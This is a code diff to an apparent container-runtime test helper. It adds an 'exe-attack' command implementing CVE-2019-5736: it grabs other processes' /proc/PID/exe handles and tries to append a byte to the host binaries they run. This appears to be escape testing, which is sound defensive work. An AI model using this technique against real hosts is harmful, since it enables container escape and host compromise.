@@ -13,6 +13,7 @@
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/resource.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/time.h>
 #include <sys/wait.h>
@@ -48,6 +49,61 @@ static int count_zombies(void) {
     }
     closedir(d);
     return zombies;
+}
+
+// CVE-2019-5736 from inside, for at most `seconds` or until the file `stop` exists: takes an
+// O_PATH fd of /proc/PID/exe of every other process that appears and whose program is not a file
+// of the container's own, and keeps trying to reopen it for writing and append one byte (ETXTBSY
+// lasts only as long as the program runs). Prints "SEEN TARGET" for each program taken and
+// "WROTE TARGET" for each it could append to, then "DONE".
+static int exe_attack(int seconds, const char *stop) {
+    enum { most = 256 };
+    int fds[most], written[most], count = 0;
+    char seen_pid[32768] = { 0 };
+    double deadline = now() + seconds;
+    while (now() < deadline && access(stop, F_OK) != 0) {
+        DIR *proc = opendir("/proc");
+        struct dirent *e;
+        while (proc && (e = readdir(proc)) && count < most) {
+            int pid = atoi(e->d_name);
+            if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen_pid || seen_pid[pid]) continue;
+            char link[64], target[4096];
+            snprintf(link, sizeof link, "/proc/%d/exe", pid);
+            // Refused (a process still more privileged than this one, or not dumpable): asked
+            // again at the next look, since what it runs may change.
+            int fd = open(link, O_PATH | O_CLOEXEC);
+            ssize_t n = fd >= 0 ? readlink(link, target, sizeof target - 1) : -1;
+            if (n <= 0) { if (fd >= 0) close(fd); continue; }
+            target[n] = 0;
+            struct stat mine, theirs;
+            if (fstat(fd, &theirs) == 0 && stat(target, &mine) == 0 && mine.st_dev == theirs.st_dev
+                && mine.st_ino == theirs.st_ino) { close(fd); continue; }
+            seen_pid[pid] = 1;
+            printf("SEEN %s\n", target);
+            fds[count] = fd;
+            written[count++] = 0;
+        }
+        if (proc) closedir(proc);
+        for (int i = 0; i < count; i++) {
+            if (written[i]) continue;
+            char path[64];
+            snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
+            int w = open(path, O_WRONLY | O_CLOEXEC);
+            if (w < 0) continue;
+            struct stat st;
+            if (fstat(w, &st) == 0 && pwrite(w, "X", 1, st.st_size) == 1) {
+                char target[4096];
+                ssize_t n = readlink(path, target, sizeof target - 1);
+                target[n > 0 ? n : 0] = 0;
+                printf("WROTE %s\n", target);
+                written[i] = 1;
+            }
+            close(w);
+        }
+        usleep(500);
+    }
+    printf("DONE\n");
+    return 0;
 }
 
 int main(int argc, char **argv) {
@@ -165,6 +221,7 @@ int main(int argc, char **argv) {
         return 0;
     }
     if (!strcmp(cmd, "exit") && argc > 2) return atoi(argv[2]);
+    if (!strcmp(cmd, "exe-attack") && argc > 3) return exe_attack(atoi(argv[2]), argv[3]);
     fprintf(stderr, "payload: unknown command %s\n", cmd);
     return 2;
 }
